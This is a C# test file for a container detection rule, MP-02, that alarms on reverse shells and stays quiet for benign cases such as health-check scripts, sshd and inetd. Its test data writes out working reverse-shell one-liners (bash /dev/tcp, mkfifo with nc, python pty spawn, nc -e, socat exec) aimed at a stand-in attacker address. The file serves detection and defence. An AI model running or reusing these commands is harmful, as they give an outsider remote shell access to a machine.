using Detection.Tests.Proof;
using Testing.Scripts;
using static Detection.Tests.MaliciousProgram.ProgramScript;

namespace Detection.Tests.MaliciousProgram;

/// <summary>MP-02.</summary>
public sealed class ReverseShellTests
{
    private const string Connected = "raised MP-02 Critical 203.0.113.9:4444: reverse-shell:streams";

    [Fact]
    [Raises("MP-02")]
    public void Alarms_on_a_connection_that_becomes_a_shells_streams() =>
        RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).Copies(3, 2).After(0.1).Execs("/bin/sh", "sh", "-i")
            .ThenAlarms(Detectors, Connected);

    [Fact]
    [Raises("MP-02")]
    public void Alarms_when_only_two_streams_are_taken_and_the_socket_did_not_block() =>
        RunningContainer().Forks(11).Connects(3, result: -115).Copies(3, 0).Copies(0, 1).Execs("/bin/bash", "bash")
            .ThenAlarms(Detectors, Connected);

    [Fact]
    [Raises("MP-02")]
    public void Alarms_when_a_child_of_the_connected_process_is_the_shell() =>
        RunningContainer().Runs(11, "/usr/bin/python3", "python3", "/tmp/a.py").Connects(3).Copies(3, 0).Copies(3, 1).Copies(3, 2)
            .Runs(12, "/bin/sh", "sh").ThenAlarms(Detectors, Connected);

    [Fact]
    [Raises("MP-02")]
    public void Alarms_on_a_child_that_takes_over_its_parents_connection() =>
        RunningContainer().Runs(11, "/usr/bin/perl", "perl", "/tmp/a.pl").Connects(3).Forks(12).Copies(3, 0).Copies(3, 1)
            .Execs("/bin/sh", "sh")
            .ThenAlarms(Detectors, Connected);

    [Fact]
    [Raises("MP-02")]
    public void Alarms_on_a_shell_that_starts_with_a_connection_when_the_copying_was_not_seen() =>
        RunningContainer().Runs(11, "/usr/bin/perl", "perl", "/tmp/a.pl").Connects(3).Runs(12, "/bin/sh", ["sh"], Streams(Socket, Socket))
            .ThenAlarms(Detectors, Connected);

    [Fact]
    [Raises("MP-02")]
    public void Alarms_on_who_accepts_and_becomes_a_shell()
    {
        var alarms = RunningContainer().Runs(11, "/opt/listen", "listen").Accepts(4).Copies(4, 0).Copies(4, 1).Execs("/bin/sh", "sh")
            .Run(Detectors);

        AlarmText.Short(alarms).ShouldBe(["raised MP-02 Critical 203.0.113.9:50000: reverse-shell:streams"]);
    }

    [Theory]
    [InlineData("/bin/bash", "/dev/tcp", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]
    [InlineData("/bin/bash", "/dev/tcp", "bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/444; while read l <&5; do $l 2>&5 >&5; done")]
    [InlineData("/bin/sh", "named pipe", "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f")]
    [InlineData("/usr/bin/python3", "interpreter", "python3", "-c",
        "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')")]
    [Raises("MP-02")]
    public void Alarms_on_a_command_line_that_ties_a_shell_to_the_network(string path, string sign, params string[] arguments)
    {
        var alarms = RunningContainer().Runs(11, path, arguments).Run(Detectors);

        AlarmText.Short(alarms).ShouldHaveSingleItem().ShouldEndWith($"reverse-shell:{sign}");
    }

    [Theory]
    [InlineData("/bin/nc", "nc", "203.0.113.9", "4444", "-e", "/bin/sh")]
    [InlineData("/bin/busybox", "nc", "203.0.113.9", "4444", "-e", "/bin/sh")]
    [InlineData("/usr/bin/socat", "socat", "tcp:203.0.113.9:4444", "exec:/bin/sh,pty")]
    [Raises("MP-02", "MP-08")]
    public void Alarms_on_network_tools_that_are_given_a_shell(string path, params string[] arguments)
    {
        var alarms = RunningContainer().Runs(11, path, arguments).Run(Detectors);

        AlarmText.Short(alarms).ShouldContain(line => line.StartsWith("raised MP-02 Critical", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("bash", "-c", "(echo > /dev/tcp/db/5432) 2>/dev/null")]
    [InlineData("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET /health HTTP/1.0\\r\\n' >&3; cat <&3 | grep -q UP")]
    [InlineData("bash", "-c", "until nc -z db 5432; do sleep 1; done")]
    [Spares("MP-02")]
    public void Says_nothing_of_scripts_that_wait_for_a_port(params string[] arguments) =>
        RunningContainer().Runs(11, "/bin/bash", arguments).ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-02")]
    public void Says_nothing_of_a_program_other_than_a_shell() =>
        RunningContainer().Forks(11).Accepts(4).Copies(4, 0).Copies(4, 1).Execs("/usr/sbin/ftpd", "ftpd").ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-02")]
    public void Says_nothing_of_a_child_that_answers_for_the_server_that_accepted() =>
        RunningContainer().Runs(11, "/opt/cgi", "cgi").Accepts(4).Forks(12).Copies(4, 0).Copies(4, 1).Execs("/bin/sh", "sh", "/srv/date.sh")
            .ThenAlarms(Detectors);

    [Theory]
    [InlineData("/usr/sbin/inetd")]
    [InlineData("/usr/sbin/sshd")]
    [Spares("MP-02")]
    public void Says_nothing_of_servers_that_hand_out_their_connections(string server) =>
        RunningContainer().Runs(11, server, server).Accepts(4).Connects(5).Forks(12).Copies(5, 0).Copies(4, 0).Copies(4, 1)
            .Execs("/bin/sh", "sh").ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-02")]
    public void Says_nothing_when_a_shell_comes_long_after_the_connection() =>
        RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).After(11).Execs("/bin/sh", "sh").ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-02")]
    public void Says_nothing_of_a_node_that_has_connections_and_starts_a_shell_with_its_socket_pairs() =>
        RunningContainer().Runs(11, "/usr/bin/node", "node", "/srv/a.js").Connects(20, 5432)
            .Runs(12, "/bin/sh", ["sh", "-c", "git log"], Streams(Socket, Socket))
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-02")]
    public void Says_nothing_of_streams_that_are_files_again() =>
        RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).Copies(9, 0).Copies(9, 1).Execs("/bin/sh", "sh")
            .ThenAlarms(Detectors);

    [Fact]
    [Raises("MP-02")]
    public void Names_the_connection_and_what_is_missing_of_its_time()
    {
        var raised = RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).Lost(2).Execs("/bin/sh", "sh")
            .Run(Detectors).OfType<Pipeline.Domain.Alarms.AlarmRaised>().ShouldHaveSingleItem();

        raised.Evidence.Select(e => e.Kind).ShouldBe(["syscall", "process"]);
        raised.Evidence[0].Facts["address"].ShouldBe("203.0.113.9:4444");
        raised.EvidenceComplete.ShouldBeFalse();
    }
}
